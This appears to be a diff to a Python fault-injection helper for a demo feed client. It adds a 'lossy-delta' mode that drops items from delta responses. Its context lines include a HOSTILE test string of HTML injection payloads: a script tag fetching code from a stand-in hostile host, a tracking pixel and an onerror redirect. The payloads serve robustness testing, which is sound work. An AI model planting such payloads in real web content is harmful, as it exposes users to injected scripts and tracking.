@@ -11,7 +11,7 @@ from transom.demo.weather.sky import Weather
 Item = dict[str, Any]
 ELSEWHERE = "graph.elsewhere.example"
 LINKS = ("next-loop", "next-missing", "next-elsewhere")
-KINDS = (*LINKS, "duplicates", "vanishing", "odd-fields", "hostile-html")
+KINDS = (*LINKS, "duplicates", "vanishing", "lossy-delta", "odd-fields", "hostile-html")
 HOSTILE = """<script>fetch('https://hostile.example/script')</script>
 <img src="https://hostile.example/pixel.gif" width="1" height="1">
 <img src=x onerror="location='https://hostile.example/onerror'">
@@ -72,9 +72,12 @@ class Bender:
     def _bend_items(self, items: list[Item], part: str) -> list[Item]:
         shown = []
         is_later = "skip" in self._question
+        is_delta = "delta" in self._path
         for place, item in enumerate(items):
             question = f"{self._question}/{part}/{place}"
             if is_later and self._strikes("vanishing", question):
+                continue
+            if is_delta and self._strikes("lossy-delta", question):
                 continue
             self._bend_item(item, f"{part}/{place}")
             shown.append(item)
